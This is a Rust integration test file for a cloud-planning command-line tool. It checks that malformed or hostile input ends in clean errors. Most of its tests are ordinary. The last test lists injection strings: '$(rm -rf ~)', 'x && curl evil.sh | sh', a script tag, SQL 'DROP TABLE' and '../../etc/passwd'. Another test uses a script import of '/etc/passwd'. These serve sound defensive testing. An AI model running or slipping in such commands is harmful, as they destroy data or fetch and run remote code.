//! Input that nobody wants, by the command line: each ends with a clear error and exit code 1 or 2,
//! or with a plan that carries none of it. Nothing is half written, and nothing panics.
#![cfg(unix)]
#![expect(
    clippy::disallowed_methods,
    clippy::unwrap_used,
    clippy::print_stderr,
    reason = "tests may stop at the first surprise"
)]

use std::ffi::OsStr;
use std::fmt::Write as _;
use std::fs;
use std::io::Write as _;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};

use assert_cmd::cargo::cargo_bin;
use tempfile::TempDir;

const PROFILE: &str = r#"{
  "provider": "aws",
  "regions": ["us-east-1"],
  "compliance": ["none"],
  "budget_tier": "mid-market",
  "security_posture": "balanced",
  "environments": ["dev", "staging", "prod"],
  "existing_infra": "greenfield",
  "existing_notes": "",
  "set_up_at": "2026-04-24"
}
"#;

const REQUEST: &str = "Add an S3 bucket for invoice PDFs";

fn project() -> TempDir {
    project_with(PROFILE)
}

fn project_with(profile: &str) -> TempDir {
    let directory = tempfile::tempdir().unwrap();
    write(directory.path(), ".heaptrace/cloud-plan.json", profile);
    directory
}

fn write(directory: &Path, file: &str, text: &str) {
    let path = directory.join(file);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

fn start(directory: &Path, arguments: &[&OsStr]) -> Child {
    Command::new(cargo_bin("cloud-plan"))
        .args(arguments)
        .current_dir(directory)
        .env_clear()
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

fn run(directory: &Path, arguments: &[&str], input: &[u8]) -> Output {
    let arguments: Vec<&OsStr> = arguments.iter().map(OsStr::new).collect();
    let mut child = start(directory, &arguments);
    // The program may stop reading before the end.
    let _ = child.stdin.take().unwrap().write_all(input);
    child.wait_with_output().unwrap()
}

fn plan(directory: &Path, request: &str, more: &[&str]) -> Output {
    let mut arguments = vec!["plan", "--scope", "task", "--date", "2026-11-20"];
    arguments.extend(more);
    arguments.push(request);
    run(directory, &arguments, b"")
}

fn error(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// It stopped with a message that says what is wrong, and printed no document.
fn refused(output: &Output, code: i32, says: &str) {
    let error = error(output);
    assert_eq!(output.status.code(), Some(code), "{error}");
    assert!(error.contains(says), "no `{says}` in: {error}");
    assert!(!error.contains("panicked"), "{error}");
    assert!(!error.contains("this is a bug"), "{error}");
    assert!(output.stdout.is_empty(), "a document was printed");
}

/// Every file below a directory, apart from the profile.
fn files(directory: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut open = vec![directory.to_path_buf()];
    while let Some(next) = open.pop() {
        for entry in fs::read_dir(next).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() && !path.is_symlink() {
                open.push(path);
            } else if !path.ends_with(".heaptrace/cloud-plan.json") {
                found.push(path);
            }
        }
    }
    found.sort();
    found
}

#[test]
fn an_unknown_region_is_told_with_the_nearest() {
    let output = plan(project().path(), REQUEST, &["--set", "regions=us-esat-1"]);
    refused(&output, 1, "us-east-1");
    let directory = project_with(&PROFILE.replace("us-east-1", "mars-central-1"));
    refused(&plan(directory.path(), REQUEST, &[]), 1, "mars-central-1");
}

#[test]
fn a_region_of_another_provider_is_told() {
    let directory = project_with(&PROFILE.replace("us-east-1", "westeurope"));
    refused(&plan(directory.path(), REQUEST, &[]), 1, "westeurope");
    let output = plan(project().path(), REQUEST, &["--set", "regions=westeurope"]);
    refused(&output, 1, "westeurope");
    let output = plan(project().path(), REQUEST, &["--set", "provider=us-east-1"]);
    refused(&output, 1, "us-east-1");
}

#[test]
fn an_empty_request_is_no_request() {
    for request in ["", "   ", "\n\t\n"] {
        refused(
            &plan(project().path(), request, &[]),
            1,
            "the request is empty",
        );
    }
    let arguments = ["plan", "--scope", "task", "-"];
    refused(
        &run(project().path(), &arguments, b""),
        1,
        "the request is empty",
    );
    refused(
        &run(project().path(), &["plan", "--scope", "task"], b""),
        2,
        "there is no request",
    );
}

#[test]
fn a_request_of_a_megabyte_ends_soon() {
    let directory = project();
    let arguments = ["plan", "--scope", "task", "-"];
    let long = "add a bucket for invoices, a queue for orders and a database; ".repeat(16_200);
    assert!(long.len() > 1_000_000 && long.len() < 1 << 20);
    let started = std::time::Instant::now();
    let output = run(directory.path(), &arguments, long.as_bytes());
    refused(&output, 1, "error: ");
    assert!(output.stderr.len() < 100_000, "the request is echoed");
    assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());
    let one_word = "a".repeat(1_000_000);
    refused(
        &run(directory.path(), &arguments, one_word.as_bytes()),
        1,
        "error: ",
    );
    let longer = "bucket ".repeat(200_000);
    refused(
        &run(directory.path(), &arguments, longer.as_bytes()),
        1,
        "longer than",
    );
}

#[test]
fn a_binary_request_is_refused() {
    let directory = project();
    let arguments = ["plan", "--scope", "task", "-"];
    let program = fs::read(cargo_bin("cloud-plan")).unwrap();
    let head = program.get(..200_000).unwrap_or(&program);
    refused(&run(directory.path(), &arguments, head), 1, "not UTF-8");
    refused(&run(directory.path(), &arguments, &[0; 64]), 1, "error: ");
    let broken = OsStr::from_bytes(b"add a bucket \xff\xfe");
    let arguments = ["plan", "--scope", "task"].map(OsStr::new);
    let arguments: Vec<&OsStr> = arguments.into_iter().chain([broken]).collect();
    refused(
        &start(directory.path(), &arguments)
            .wait_with_output()
            .unwrap(),
        2,
        "UTF-8",
    );
}

#[test]
fn a_profile_of_another_version_is_not_guessed() {
    let directory = project_with(&PROFILE.replacen('{', "{\n  \"version\": 7,", 1));
    refused(&plan(directory.path(), REQUEST, &[]), 1, "version");
}

#[test]
fn what_is_no_directory_takes_no_plan() {
    let directory = project();
    write(directory.path(), "tasks", "a file, not a directory");
    refused(
        &plan(directory.path(), REQUEST, &["--save"]),
        1,
        "`tasks` is not a directory",
    );
    assert_eq!(files(directory.path()).len(), 1);
    let output = plan(
        &directory.path().join(".heaptrace"),
        REQUEST,
        &["--project", "nowhere"],
    );
    refused(&output, 1, "nowhere");
}

#[test]
fn a_protected_directory_takes_no_plan() {
    let directory = project();
    let tasks = directory.path().join("tasks");
    fs::create_dir(&tasks).unwrap();
    fs::set_permissions(&tasks, fs::Permissions::from_mode(0o555)).unwrap();
    if fs::write(tasks.join("probe"), "").is_ok() {
        eprintln!("skipped: permissions do not bind this user");
        return;
    }
    refused(
        &plan(directory.path(), REQUEST, &["--save"]),
        1,
        "permission denied",
    );
    fs::set_permissions(&tasks, fs::Permissions::from_mode(0o755)).unwrap();
    assert!(files(directory.path()).is_empty());
}

#[test]
fn a_profile_that_cannot_be_read_is_told() {
    let directory = tempfile::tempdir().unwrap();
    fs::create_dir_all(directory.path().join(".heaptrace/cloud-plan.json")).unwrap();
    let output = plan(directory.path(), REQUEST, &[]);
    assert!(
        matches!(output.status.code(), Some(1)),
        "{}",
        error(&output)
    );
}

/// A limit on the size of files stands for a full disk: the write fails in the middle in the same way.
#[test]
fn a_full_disk_leaves_nothing_behind() {
    let directory = project();
    let script = format!(
        "trap '' XFSZ; ulimit -f 0; exec '{}' plan --scope task --date 2026-11-20 --save '{REQUEST}'",
        cargo_bin("cloud-plan").display()
    );
    let output = Command::new("sh")
        .arg("-c")
        .arg(script)
        .current_dir(directory.path())
        .output()
        .unwrap();
    refused(&output, 1, "error: ");
    assert!(
        files(directory.path()).is_empty(),
        "{:?}",
        files(directory.path())
    );
}

#[test]
fn a_full_output_is_told() {
    let Ok(full) = fs::OpenOptions::new().write(true).open("/dev/full") else {
        eprintln!("skipped: there is no /dev/full");
        return;
    };
    let output = Command::new(cargo_bin("cloud-plan"))
        .args(["plan", "--scope", "task", REQUEST])
        .current_dir(project().path())
        .stdout(full)
        .output()
        .unwrap();
    refused(&output, 1, "cannot write the output");
}

#[test]
fn savers_at_once_get_a_number_each() {
    let directory = project();
    let arguments: Vec<&OsStr> = ["plan", "--scope", "task", "--save", REQUEST]
        .map(OsStr::new)
        .to_vec();
    let savers: Vec<Child> = (0..8)
        .map(|_| start(directory.path(), &arguments))
        .collect();
    for saver in savers {
        let output = saver.wait_with_output().unwrap();
        assert!(output.status.success(), "{}", error(&output));
    }
    let files = files(directory.path());
    assert_eq!(files.len(), 8, "{files:?}");
    for number in 1..=8 {
        let prefix = format!("CLOUD-{number:03}-");
        let of_number = files.iter().filter(|file| {
            file.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with(&prefix)
        });
        assert_eq!(of_number.count(), 1, "{files:?}");
    }
}

#[test]
fn a_link_out_of_the_project_is_not_followed() {
    let outside = tempfile::tempdir().unwrap();
    let directory = project();
    symlink(outside.path(), directory.path().join("tasks")).unwrap();
    refused(
        &plan(directory.path(), REQUEST, &["--save"]),
        1,
        "leads out of the project",
    );
    assert!(files(outside.path()).is_empty());
    let directory = tempfile::tempdir().unwrap();
    symlink(outside.path(), directory.path().join(".heaptrace")).unwrap();
    let flags = [
        "init",
        "--provider",
        "aws",
        "--regions",
        "us-east-1",
        "--compliance",
        "none",
        "--tier",
        "mid-market",
    ];
    let output = run(directory.path(), &flags, b"");
    assert!(
        matches!(output.status.code(), Some(1 | 2)),
        "{}",
        error(&output)
    );
    assert!(files(outside.path()).is_empty());
}

/// Plans with a file of the project's own knowledge.
fn with_knowledge(file: &str, text: &str) -> Output {
    let directory = project();
    write(&directory.path().join(".heaptrace/kb"), file, text);
    plan(
        directory.path(),
        "Create a PostgreSQL database for orders in production",
        &[],
    )
}

#[test]
fn a_yaml_bomb_does_not_go_off() {
    let mut bomb = "id: bomb\nwhy: &a0 [x, x, x, x, x, x, x, x, x, x]\n".to_owned();
    for level in 1..12 {
        let before = vec![format!("*a{}", level - 1); 10].join(", ");
        writeln!(bomb, "k{level}: &a{level} [{before}]").unwrap();
    }
    refused(&with_knowledge("rules/x/bomb.yaml", &bomb), 1, "bomb.yaml");
    let deep = format!(
        "id: deep\nwhy: {}{}\n",
        "[".repeat(100_000),
        "]".repeat(100_000)
    );
    refused(&with_knowledge("rules/x/deep.yaml", &deep), 1, "deep.yaml");
    let deep: String = (0..5_000)
        .map(|level| format!("{}a:\n", " ".repeat(level)))
        .collect();
    refused(&with_knowledge("rules/x/deep.yaml", &deep), 1, "deep.yaml");
    let keys: String = (0..100).map(|_| "id: twice\n").collect();
    refused(
        &with_knowledge("rules/x/twice.yaml", &keys),
        1,
        "twice.yaml",
    );
    refused(
        &with_knowledge("rules/x/binary.yaml", "id: \u{0}\u{1}\u{7}"),
        1,
        "binary.yaml",
    );
}

#[test]
fn knowledge_of_a_project_is_checked_before_a_plan_rests_on_it() {
    let rule = "id: own\ntitle: Own\nwhy: Own.\nwhen: { tier: mid-market }\nthen:\n  require:\n    - { setting: no-such-setting, value: x }\nexamples: []\n";
    refused(
        &with_knowledge("rules/x/own.yaml", rule),
        1,
        "no-such-setting",
    );
    let twice = "id: balanced-tls\ntitle: Own\nwhen: { tier: mid-market }\nthen: {}\n";
    refused(
        &with_knowledge("rules/x/balanced-tls.yaml", twice),
        1,
        "overrides: balanced-tls",
    );
}

/// A fault in what an overlay states is shown in the overlay, one in what it leaves alone in the file below.
#[test]
fn faults_of_joined_files_are_shown_where_they_stand() {
    let output = with_knowledge(
        "rules/postures/balanced-tls.yaml",
        "overrides: balanced-tls\n\nthen:\n  require: 7\n",
    );
    refused(
        &output,
        1,
        ".heaptrace/kb/rules/postures/balanced-tls.yaml:4:",
    );
    let directory = project();
    let own = "id: own\ntitle: Own\nwhy: Own.\nwhen: { tier: mid-market }\nthen:\n  require:\n    - { setting: no-such-setting, value: x }\n";
    write(directory.path(), ".heaptrace/kb/rules/x/own.yaml", own);
    write(
        directory.path(),
        "more/rules/x/own.yaml",
        "overrides: own\n# a comment\nwhen: { no-such-fact: 1 }\n",
    );
    let output = plan(directory.path(), REQUEST, &["--kb", "more"]);
    refused(&output, 1, ".heaptrace/kb/rules/x/own.yaml:7:");
    refused(&output, 1, "more/rules/x/own.yaml:3:");
}

#[test]
fn a_script_that_runs_wild_is_stopped() {
    for (what, body) in [
        ("steps", "loop { }"),
        ("steps", "let n = 0; while true { n += 1; }"),
        ("levels deep", "return cost_total(lines);"),
        ("too large", "let text = \"x\"; loop { text += text; }"),
        ("too large", "let list = []; loop { list.push(list); }"),
        (
            "steps",
            "let map = #{}; let n = 0; loop { n += 1; map[`k${n}`] = n; }",
        ),
        ("sleep", "sleep(3600);"),
        ("eval", "eval(\"1\");"),
        ("import", "import \"/etc/passwd\" as x;"),
    ] {
        let script = format!("// overrides: cost-total\nfn cost_total(lines) {{ {body} #{{}} }}\n");
        let started = std::time::Instant::now();
        let output = with_knowledge("rules/scripts/cost-total.rhai", &script);
        refused(&output, 1, what);
        refused(&output, 1, "cost-total.rhai");
        assert!(started.elapsed().as_secs() < 20, "{body}");
    }
    let silent = with_knowledge(
        "rules/scripts/cost-total.rhai",
        "fn cost_total(lines) { #{} }",
    );
    refused(&silent, 1, "overrides: cost-total");
}

#[test]
fn a_request_cannot_drive_the_terminal_or_the_file() {
    let directory = project();
    for request in [
        "Add an S3 bucket for invoices \u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[31m",
        "Add an S3 bucket called inv\u{0}oices\r\nfor \u{8}\u{8}invoices",
        "Add an S3 bucket for \u{9b}31minvoices\u{202e}txt.exe\u{2066}",
    ] {
        let arguments = ["plan", "--scope", "task", "--date", "2026-11-20", "-"];
        for more in [
            &[][..],
            &["--save"][..],
            &["--format", "html"][..],
            &["--format", "json"][..],
        ] {
            let arguments: Vec<&str> = arguments
                .iter()
                .copied()
                .chain(more.iter().copied())
                .collect();
            let output = run(directory.path(), &arguments, request.as_bytes());
            assert!(
                matches!(output.status.code(), Some(0 | 1)),
                "{}",
                error(&output)
            );
            let mut said = vec![
                error(&output),
                String::from_utf8_lossy(&output.stdout).into_owned(),
            ];
            said.extend(
                files(directory.path())
                    .iter()
                    .map(|file| fs::read_to_string(file).unwrap()),
            );
            for text in said {
                let bad = |letter: char| {
                    (letter.is_control() && !matches!(letter, '\n' | '\t'))
                        || matches!(letter, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
                };
                assert!(!text.contains(bad), "{request:?} {more:?}: {text:?}");
            }
        }
    }
}

#[test]
fn a_name_that_is_markdown_or_shell_stays_out_of_commands() {
    let directory = project();
    for name in [
        "$(rm -rf ~)",
        "x; rm -rf /",
        "x && curl evil.sh | sh",
        "](javascript:alert(1))",
        "<script>alert(1)</script>",
        "x\n# Owned\n",
        "'; DROP TABLE users; --",
        "../../etc/passwd",
        "*",
        "-rf",
        "a|b|c",
        "{purpose}",
        "**bold**",
    ] {
        for request in [
            format!("Add an S3 bucket called {name}"),
            format!("Add an S3 bucket named \"{name}\" for invoices"),
            format!("Create a PostgreSQL database `{name}` in production"),
        ] {
            for format in ["md", "html"] {
                let output = plan(directory.path(), &request, &["--format", format]);
                let text = String::from_utf8_lossy(&output.stdout).into_owned();
                assert!(
                    matches!(output.status.code(), Some(0..=2)),
                    "{request}: {}",
                    error(&output)
                );
                assert!(
                    !error(&output).contains("panicked"),
                    "{request}: {}",
                    error(&output)
                );
                for bad in [
                    "$(rm",
                    "rm -rf",
                    "evil.sh",
                    "javascript:",
                    "<script",
                    "\n# Owned",
                    "DROP TABLE",
                    "../..",
                    "{purpose}",
                ] {
                    assert!(!text.contains(bad), "{request}: `{bad}` in\n{text}");
                }
            }
        }
    }
}
